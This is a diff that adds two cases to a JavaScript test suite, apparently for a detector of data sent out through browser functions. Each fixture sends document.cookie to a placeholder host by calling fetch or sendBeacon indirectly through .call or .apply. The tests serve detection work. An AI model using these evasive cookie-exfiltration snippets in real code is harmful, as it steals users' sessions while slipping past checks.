@@ -30,6 +30,14 @@ describe('functions of the platform that objects hold', () => {
       'a map',
       `constructor() { this.ways = new Map([['beacon', navigator.sendBeacon.bind(navigator)]]); } send(b) { this.ways.get('beacon')('${HOST}', b); }`,
     ],
+    [
+      'a field that is called on something',
+      `constructor(f = fetch) { this.f = f; } send(b) { return this.f.call(window, '${HOST}', { method: 'POST', body: b }); }`,
+    ],
+    [
+      'a parameter that is applied',
+      `run(f, of, list) { f.apply(of, list); } send(b) { this.run(navigator.sendBeacon, navigator, ['${HOST}', b]); }`,
+    ],
   ])('%s', async (_, client) => {
     expect(await sent({ content: `class Api { ${client} } new Api({}).send(document.cookie);` })).toBeGreaterThan(0);
     expect(
